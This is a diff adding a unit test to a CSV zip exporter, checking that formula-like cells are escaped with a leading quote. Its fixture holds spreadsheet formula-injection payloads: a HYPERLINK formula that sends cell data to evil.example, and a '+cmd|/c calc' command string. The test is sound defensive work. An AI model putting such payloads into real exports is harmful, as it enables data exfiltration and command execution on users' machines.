@@ -1,6 +1,8 @@
 import JSZip from 'jszip';
 import Papa from 'papaparse';
+import type { Entity } from '@steppe/domain';
 import { collectBytes, writeCsvZip } from '../src';
+import { FORMULA_TRIGGERS } from '../src/csv';
 import { entities, input, meta, relations, TRICKY_QUOTE } from './fixture';
 
 async function unzip(bytes: Uint8Array) {
@@ -79,5 +81,21 @@ describe('CSV zip export', () => {
     const { raw: r, files: f } = await unzip(await collectBytes(writeCsvZip(input(), { bom: true })));
     for (const name of ['nodes.csv', 'edges.csv', 'evidence.csv', 'sources.csv']) expect([...r[name]!.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(rows(f['nodes.csv']!.replace(/^\uFEFF/, ''))[0]!.id).toBe('alikhan-smailov');
+  });
+
+  it('neutralises cells a spreadsheet would read as formulas (OWASP): a leading quote, read back as text by a CSV parser', async () => {
+    const hostile: Entity[] = [
+      { id: 'f-eq', kind: 'Person', name: '=HYPERLINK("http://evil.example/?"&A1,"click")', aliases: ['-2+3', '@SUM(A1:A9)'], description: '+cmd|/c calc', roles: [] },
+      { id: 'f-ws', kind: 'Person', name: '\t=1+1', aliases: [], description: '\r=1+1', roles: ['safe'] },
+      { id: 'f-ok', kind: 'Person', name: 'Plain = name', aliases: ["'quoted"], description: 'a-b', roles: [] },
+    ];
+    const { files: f } = await unzip(await collectBytes(writeCsvZip(input({ nodes: hostile, edges: [] }))));
+    const nodes = rows(f['nodes.csv']!);
+    const byId = (id: string) => nodes.find((n) => n.id === id)!;
+    expect(byId('f-eq')).toMatchObject({ name: `'=HYPERLINK("http://evil.example/?"&A1,"click")`, aliases: "'-2+3; @SUM(A1:A9)", description: "'+cmd|/c calc" });
+    expect(byId('f-ws')).toMatchObject({ name: "'\t=1+1", description: "'\r=1+1" });
+    // Only leading characters count; anything else is written as it is.
+    expect(byId('f-ok')).toMatchObject({ name: 'Plain = name', aliases: "'quoted", description: 'a-b' });
+    for (const n of nodes) for (const v of Object.values(n)) expect(FORMULA_TRIGGERS).not.toContain(v.charAt(0));
   });
 });
